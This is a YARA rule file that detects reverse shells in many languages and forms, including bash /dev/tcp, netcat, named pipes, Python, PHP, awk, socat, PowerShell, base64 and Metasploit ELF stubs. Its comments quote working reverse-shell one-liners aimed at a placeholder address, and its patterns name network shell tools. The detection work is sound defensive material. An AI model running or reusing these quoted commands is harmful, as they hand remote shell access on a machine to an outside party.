// One-liners that connect a shell to somebody's machine, in every language that an image may have an interpreter for.

private rule is_manual_page
{
    strings:
        $section = /\n\.S[Hh] /

    condition:
        (uint8(0) == 0x2e or uint8(0) == 0x27) and $section
}

rule reverse_shell_dev_tcp
{
    meta:
        description = "shell connected to a network address by way of /dev/tcp"
        severity = "critical"
        author = "Seawall"
        license = "Apache-2.0"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
        remedy = "Remove it, find out which build step brought it in, and treat secrets of the image as known to others."

    strings:
        // bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
        $interactive = /\b(ba|z|k|da)?sh\s+-[il]+\s{0,3}([0-9]?>&|&>|[0-9]?<>|[0-9]?>)\s{0,3}\/dev\/(tcp|udp)\/[^\s\/]{1,100}\/[^\s;&|]{1,20}/
        // exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done
        $loop = /exec\s+\d{1,3}<>\s?\/dev\/(tcp|udp)\/[^\n]{1,120}while read[^\n]{1,60}(\$\w|eval)[^\n]{0,40}>&\s?\d/
        // 0<&196;exec 196<>/dev/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196
        $numbered = /exec\s+\d{1,3}<>\s?\/dev\/(tcp|udp)\/[^\n]{1,120}\b(ba|z|k|da)?sh\s+(-i\s+)?<&\s?\d{1,3}\s+[0-9]?>&\s?\d{1,3}/

    condition:
        any of them and not is_manual_page and filesize < 5MB
}

rule reverse_shell_netcat
{
    meta:
        description = "netcat that runs a shell for whoever is at the other end"
        severity = "high"
        author = "Seawall"
        license = "Apache-2.0"
        reference = "https://attack.mitre.org/techniques/T1059/004/"

    strings:
        $after = /\b(nc|ncat|netcat|nc\.traditional|busybox nc)\s(-[a-zA-Z]{1,8}\s){0,4}[A-Za-z0-9.$\{\}_:-]{3,80}\s[0-9$\{\}A-Z_]{2,20}\s{1,3}(-[a-z]{0,3}|--ex|--sh-ex)(e|ec|c) ?['"]?((\/usr)?\/bin\/(ba|da|z|k|c)?|ba|da)sh\b/
        // A bare sh and what stands before and after it, told apart so that the search has more than two letters to look for.
        $after_bare = /\b(nc|ncat|netcat|nc\.traditional|busybox nc)\s(-[a-zA-Z]{1,8}\s){0,4}[A-Za-z0-9.$\{\}_:-]{3,80}\s[0-9$\{\}A-Z_]{2,20}\s{1,3}(-[a-z]{0,3}|--ex|--sh-ex)((e|ec|c) ['"]?sh|[zk]sh)['"\s;|]/
        $before = /\b(nc|ncat|netcat|nc\.traditional|busybox nc)\s(-[a-zA-Z]{1,8}\s){0,3}(-[a-z]{0,4}|--ex|--sh-ex)ec? ?['"]?(\/usr)?\/bin\/(ba|da|z|k|c)?sh['"]?\s(-[a-zA-Z]{1,4}\s){0,3}[A-Za-z0-9.$\{\}_:-]{3,80}\s[0-9$]/

    condition:
        uint8(0) < 0x7f and filesize < 1MB and any of them and not is_manual_page
}

rule reverse_shell_named_pipe
{
    meta:
        description = "shell connected to a network address through a named pipe"
        severity = "critical"
        author = "Seawall"
        license = "Apache-2.0"
        reference = "https://attack.mitre.org/techniques/T1059/004/"

    strings:
        // rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f
        $netcat = /\b(mkfifo|mknod)\s[^\n]{1,80}[;&]\s{0,3}[^\n]{0,80}\b(ba|da|z|k)?sh\s(-i\s)?[^\n]{0,40}\|\s{0,3}(busybox )?(nc|ncat|netcat|telnet|openssl s_client|socat)\b[^\n]{3,120}>\s{0,3}[\/$]/
        // mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:4444 > /tmp/s
        $from_pipe = /\b(mkfifo|mknod)\s[^\n]{1,80}[;&]\s{0,3}[^\n]{0,40}\b(ba|da|z|k)?sh\s(-i\s)?[^\n]{0,10}<\s{0,2}[^\n|]{1,60}\|\s{0,3}(nc|ncat|netcat|telnet|openssl s_client)\b[^\n]{3,120}>\s{0,3}[\/$]/
        // telnet 192.0.2.1 4444 | /bin/sh | telnet 192.0.2.1 4445
        $two_telnets = /\btelnet\s[^\n|]{3,80}\|\s{0,3}(\/bin\/)?(ba|da)?sh\s{0,3}\|\s{0,3}telnet\s/

    condition:
        uint8(0) < 0x7f and filesize < 1MB and any of them and not is_manual_page
}

rule reverse_shell_python
{
    meta:
        description = "Python that hands a shell to a network connection"
        severity = "critical"
        author = "Seawall"
        license = "Apache-2.0"
        reference = "https://attack.mitre.org/techniques/T1059/006/"

    strings:
        $connect = /\.connect\(\(/
        $dup2 = /\bdup2\(\s{0,2}\w{1,20}\.fileno\(\)\s{0,2},\s{0,2}(\w{1,3}|0|1|2)\s{0,2}\)/
        $shell_1 = /pty\.spawn\(\s{0,2}['"](\/bin\/)?(ba|da|z)?sh/
        $shell_2 = /subprocess\.(call|Popen|run)\(\s{0,2}\[?\s{0,2}['"](\/bin\/)?(ba|da|z)?sh['"]\s{0,2},\s{0,2}['"]-i/
        $shell_3 = /os\.exec\w{1,3}\(\s{0,2}['"](\/bin\/)?(ba|da|z)?sh/
        $fds = /\[os\.dup2\(\w{1,20}\.fileno\(\),\s?\w{1,3}\)\s{0,2}for\s/

    condition:
        filesize < 1MB and $connect and ($dup2 or $fds) and 1 of ($shell_*)
}

rule reverse_shell_perl
{
    meta:
        description = "Perl that hands a shell to a network connection"
        severity = "critical"
        author = "Seawall"
        license = "Apache-2.0"
        reference = "https://attack.mitre.org/techniques/T1059/"

    strings:
        $socket = "sockaddr_in("
        $io_socket = /IO::Socket::INET(->new)?\(/
        $in = /open\s?\(?\s?STDIN\s?,\s?['"]<?>?&\s?\w{1,20}['"]/
        $fdopen = /STDIN->fdopen\(\$\w{1,20},\s?[rw]\)/
        $shell = /\b(exec|system)\s?\(?\s?['"{(]{0,2}(\/bin\/)?(ba|da|z)?sh(\s-i)?['"]/
        $loop = /system\s?\$_\s?while\s?<>/

    condition:
        filesize < 1MB and ($socket or $io_socket) and (($in and $shell) or ($fdopen and ($loop or $shell)))
}

rule reverse_shell_php
{
    meta:
        description = "PHP that hands a shell to a network connection"
        severity = "critical"
        author = "Seawall"
        license = "Apache-2.0"
        reference = "https://attack.mitre.org/techniques/T1059/"

    strings:
        // $s=fsockopen("192.0.2.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");
        $numbered = /fsockopen\([^\n]{4,80}\);\s{0,3}(exec|shell_exec|system|passthru|popen|\$?\w{0,8}\s?=?\s?proc_open)\(\s?['"](\/bin\/)?(ba|da)?sh\s-i/
        $backticks = /fsockopen\([^\n]{4,80}\);\s{0,3}`(\/bin\/)?(ba|da)?sh\s-i/
        // array(0=>$sock, 1=>$sock, 2=>$sock)
        $array = /fsockopen\([^\n]{4,80}\);[^\n]{0,20}proc_open\(\s?['"](\/bin\/)?(ba|da)?sh[^\n]{0,20},\s?(array\(|\[)\s?0\s?=>\s?\$\w{1,20}\s?,/

    condition:
        uint8(0) < 0x7f and filesize < 1MB and any of them
}

rule reverse_shell_ruby
{
    meta:
        description = "Ruby that hands a shell to a network connection"
        severity = "critical"
        author = "Seawall"
        license = "Apache-2.0"
        reference = "https://attack.mitre.org/techniques/T1059/"

    strings:
        $exec = /TCPSocket\.(new|open)\([^\n]{4,80}\)(\.to_i)?[;\n]{0,2}[^\n]{0,20}exec[\s(]{1,2}(sprintf\()?['"](\/bin\/)?(ba|da)?sh -i <&/
        $popen = /TCPSocket\.(new|open)\([^\n]{4,80}\)[;\n][^\n]{0,80}while[^\n]{0,40}\.gets[^\n]{0,60}IO\.popen\(/

    condition:
        uint8(0) < 0x7f and filesize < 1MB and any of them
}

rule reverse_shell_lua
{
    meta:
        description = "Lua that hands a shell to a network connection"
        severity = "critical"
        author = "Seawall"
        license = "Apache-2.0"
        reference = "https://attack.mitre.org/techniques/T1059/"

    strings:
        $connect = /:connect\(\s?['"][^\n'"]{3,80}['"]\s?,/
        $execute = /os\.execute\(\s?['"](\/bin\/)?(ba|da)?sh -i <&\d/
        $popen = /:receive\(\)[^\n]{0,40}[;\n]\s{0,8}(local )?\w{1,12}\s?=\s?(assert\()?io\.popen\(\w{1,12}/

    condition:
        uint8(0) < 0x7f and filesize < 1MB and $connect and ($execute or $popen)
}

rule reverse_shell_awk
{
    meta:
        description = "awk that runs commands from a network connection"
        severity = "critical"
        author = "Seawall"
        license = "Apache-2.0"
        reference = "https://attack.mitre.org/techniques/T1059/"

    strings:
        // BEGIN{s="/inet/tcp/0/192.0.2.1/4444";for(;s|&getline c;close(c))while(c|getline)print|&s;close(s)}
        $socket = /['"]\/inet[46]?\/(tcp|udp)\/\d{1,5}\/[^\s'"]{3,80}['"]/
        $read = /\|&\s?getline\s{1,2}(\w{1,12})/
        $run = /\(?\(?\s?\w{1,12}\s?\|&?\s?getline\s?\)/

    condition:
        uint8(0) < 0x7f and filesize < 256KB and $socket and $read and $run and not is_manual_page
}

rule reverse_shell_socat
{
    meta:
        description = "socat that runs an interactive shell for whoever is at the other end"
        severity = "high"
        author = "Seawall"
        license = "Apache-2.0"
        reference = "https://attack.mitre.org/techniques/T1059/004/"

    strings:
        $shell_first = /\bsocat\s[^\n]{0,80}(exec|system):\s?['"]?[^\n'"]{0,20}\b(ba|da|z)?sh\b[^\n]{0,60}\s(tcp|tcp4|tcp6|openssl|ssl|udp|sctp)(-connect)?:[^\s]{3,100}:/ nocase
        $network_first = /\bsocat\s[^\n]{0,60}(tcp|tcp4|tcp6|openssl|ssl|udp|sctp)(-connect)?:[^\s]{3,100}:[^\n]{1,60}\s(exec|system):\s?['"]?[^\n'"]{0,20}\b(ba|da|z)?sh\b[^\n]{0,60}(pty|stderr)/ nocase

    condition:
        uint8(0) < 0x7f and filesize < 1MB and any of them and not is_manual_page
}

rule reverse_shell_node
{
    meta:
        description = "Node.js that hands a shell to a network connection"
        severity = "critical"
        author = "Seawall"
        license = "Apache-2.0"
        reference = "https://attack.mitre.org/techniques/T1059/007/"

    strings:
        $spawn = /\.(spawn|exec)\(\s?['"](\/bin\/)?(ba|da|z)?sh['"]/
        $connect = /\.connect\(\s?\d{2,5}\s?,\s?['"][^'"\n]{3,100}['"]\s?,/
        $in = /\.pipe\(\s?\w{1,20}\.stdin\s?\)/
        $out = /\.stdout\.pipe\(\s?\w{1,20}\s?\)/

    condition:
        uint8(0) < 0x7f and filesize < 1MB and all of them and
        for any i in (1..#in) : ($out in (@in[i] - 300..@in[i] + 300))
}

rule reverse_shell_go_source
{
    meta:
        description = "Go source that hands a shell to a network connection"
        severity = "high"
        author = "Seawall"
        license = "Apache-2.0"
        reference = "https://attack.mitre.org/techniques/T1059/"

    strings:
        $line = /net\.Dial\(\s?"(tcp|udp)"\s?,[^\n]{4,80}\)[;\n]\s{0,20}(if [^\n]{1,80}\n\s{0,20})?\w{1,12}\s?:=\s?exec\.Command\(\s?"(\/bin\/)?(ba|da|z)?sh"/
        $in = /\.Stdin\s?=\s?\w{1,12}\s?[;\n]/

    condition:
        uint8(0) < 0x7f and filesize < 256KB and $line and $in
}

rule reverse_shell_powershell
{
    meta:
        description = "PowerShell that runs commands from a network connection"
        severity = "critical"
        author = "Seawall"
        license = "Apache-2.0"
        reference = "https://attack.mitre.org/techniques/T1059/001/"

    strings:
        $client = /New-Object\s{1,3}(System\.)?Net\.Sockets\.TCPClient\(/ nocase
        $stream = ".GetStream()" nocase
        $run = /\b(iex|Invoke-Expression)\b[\s(]{1,3}\$\w{1,12}/ nocase
        $write = /\.Write\(\s?\$\w{1,20}\s?,\s?0\s?,/ nocase

    condition:
        uint8(0) < 0x7f and filesize < 1MB and all of them
}

rule reverse_shell_base64
{
    meta:
        description = "reverse shell hidden in base64"
        severity = "critical"
        author = "Seawall"
        license = "Apache-2.0"
        reference = "https://attack.mitre.org/techniques/T1027/"

    strings:
        $interactive_1 = "bash -i >& /dev/tcp/" base64
        $interactive_2 = "bash -i >&/dev/tcp/" base64
        $interactive_3 = "sh -i >& /dev/udp/" base64
        $exec_1 = "exec 5<>/dev/tcp/" base64
        $python_1 = "os.dup2(s.fileno(),0)" base64
        $python_2 = "os.dup2(s.fileno(), 0)" base64
        $python_3 = "pty.spawn(\"/bin/" base64

    condition:
        filesize < 20MB and any of them
}

rule reverse_shell_metasploit_elf
{
    meta:
        description = "small program that Metasploit makes: it connects and starts a shell or loads the rest"
        severity = "critical"
        author = "Seawall"
        license = "Apache-2.0"
        reference = "https://attack.mitre.org/techniques/T1059/"

    strings:
        // mov rcx, <family, port, address>; push rcx; mov rsi, rsp; push 16; pop rdx; push 42; pop rax; syscall (connect)
        $x64 = { 48 b9 02 00 ?? ?? ?? ?? ?? ?? 51 48 89 e6 6a 10 5a 6a 2a 58 0f 05 }
        // push <address>; push <port, family>; mov ecx, esp; mov al, 0x66 (socketcall)
        $x86 = { 68 ?? ?? ?? ?? 68 02 00 ?? ?? 89 e1 [0-8] (b0 66 | 6a 66 58) [0-12] cd 80 }

    condition:
        uint32(0) == 0x464c457f and filesize < 8KB and any of them
}
